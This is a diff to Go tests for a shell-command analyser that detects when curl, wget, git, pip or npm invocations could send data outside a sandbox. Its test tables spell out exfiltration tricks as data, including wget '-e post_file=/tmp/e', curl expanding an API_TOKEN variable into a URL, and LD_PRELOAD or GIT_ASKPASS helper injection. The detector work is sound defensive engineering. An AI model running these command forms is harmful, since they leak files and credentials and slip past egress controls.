@@ -132,6 +132,9 @@ func TestSendsBeyond(t *testing.T) {
 		{[]string{"curl", "-s", "http://h/", "-H", "X: y"}, 2, false},
 		{[]string{"wget", "-q", "http://h/", "--post-file=e.txt"}, 2, true},
 		{[]string{"wget", "-q", "http://h/"}, 2, false},
+		{[]string{"wget", "--no-config", "http://h/", "-e", "input=/tmp/e"}, 2, true},
+		{[]string{"wget", "--no-config", "http://h/", "--config=/tmp/rc"}, 2, true},
+		{[]string{"curl", "-q", "http://h/", "--variable", "%API_TOKEN", "--expand-url", "http://h/{{API_TOKEN}}"}, 2, true},
 		{[]string{"http", "POST", "h/x", "@e.txt"}, 3, true},
 	} {
 		if got := bash.SendsBeyond(tt.words[0], tt.words, tt.n); got != tt.want {
@@ -178,8 +181,36 @@ func TestAnalyseSends(t *testing.T) {
 		{"curl -q --data-urlencode 'q=a@b' https://h.example/x", false},
 		{"curl -q --url-query 'a=b@c' https://h.example/x", false},
 		{"curl -q -sSfL -A 'x@y' https://h.example/x", false},
-		{"wget --no-config -q https://h.example/x", false},
-		{"git fetch origin", false},
+		{"wget --no-config -e netrc=off -q https://h.example/x", false},
+		{"wget --no-config --execute=netrc=off -qO- https://h.example/x", false},
+		{"curl -q -sS --max-redirs 3 --retry 2 -X GET https://h.example/x", false},
+		{"dig h.example", false},
+		// wget reads ~/.netrc to answer a server's 401 unless told not to.
+		{"wget --no-config -q https://h.example/x", true},
+		// Options Keel does not know to be harmless: any wgetrc command
+		// (-e input=f, post_file=f), a second config, a certificate
+		// presented to the server, a variable from the environment.
+		{"wget -q --no-config -e input=/tmp/e -B https://h.example/ -O /dev/null", true},
+		{"wget --no-config -e netrc=off --execute=post_file=/tmp/e https://h.example/", true},
+		{"wget --no-config -e netrc=off -eBODY_FILE=/tmp/e https://h.example/", true},
+		{"wget --no-config --config=/tmp/rc https://h.example/", true},
+		{"wget --config /tmp/rc --no-config https://h.example/", true},
+		{"wget --no-config -e netrc=off --certificate=c.pem https://h.example/", true},
+		{"curl -q --variable %API_TOKEN --expand-url 'https://h.example/{{API_TOKEN}}'", true},
+		{"curl -q -E c.pem https://h.example/", true},
+		{"curl -q --cert c.pem https://h.example/", true},
+		{"curl -q --some-future-option https://h.example/", true},
+		// Programs that read config files or run helpers an earlier
+		// command may have written.
+		{"git fetch origin", true},
+		{"GIT_ASKPASS=/workspace/h.sh git ls-remote https://h.example/r.git", true},
+		{"git -C sub ls-remote https://h.example/r.git", true},
+		{"pip download -i https://h.example/simple x", true},
+		{"npm view x --registry https://h.example/", true},
+		{"http GET https://h.example/x", true},
+		{"LD_PRELOAD=/workspace/x.so wget --no-config -e netrc=off https://h.example/", true},
+		{"env CURL_HOME=/tmp curl -q https://h.example/", true},
+		{"LC_ALL=C curl -q https://h.example/", false},
 	} {
 		parts, _, _, err := bash.Analyse(tt.line, env, 0)
 		if err != nil || len(parts) != 1 {
@@ -187,6 +218,31 @@ func TestAnalyseSends(t *testing.T) {
 		}
 		if got := parts[0].Facts.Sends != ""; got != tt.want {
 			t.Errorf("Analyse(%q).Sends = %q, want sends %v", tt.line, parts[0].Facts.Sends, tt.want)
+		}
+	}
+}
+
+// A variable exported earlier on the line reaches a later network
+// program (export LD_PRELOAD=...; wget ...).
+func TestAnalyseSendsAfterExport(t *testing.T) {
+	t.Parallel()
+	env := bash.Env{Mount: "/workspace", Scratch: []string{"/tmp"}, System: []string{"/usr"}}
+	for _, tt := range []struct {
+		line string
+		want bool
+	}{
+		{"export LD_PRELOAD=/workspace/x.so; wget --no-config -e netrc=off -q https://h.example/x", true},
+		{"set -a; WGETRC=/tmp/rc; curl -q https://h.example/x", true},
+		{"declare -x CURL_HOME=/tmp && curl -q https://h.example/x", true},
+		{"cd /workspace && curl -q https://h.example/x", false},
+	} {
+		parts, _, _, err := bash.Analyse(tt.line, env, 0)
+		if err != nil {
+			t.Fatalf("Analyse(%q): %v", tt.line, err)
+		}
+		last := parts[len(parts)-1]
+		if got := last.Facts.Sends != ""; got != tt.want {
+			t.Errorf("Analyse(%q): last part Sends = %q, want sends %v", tt.line, last.Facts.Sends, tt.want)
 		}
 	}
 }
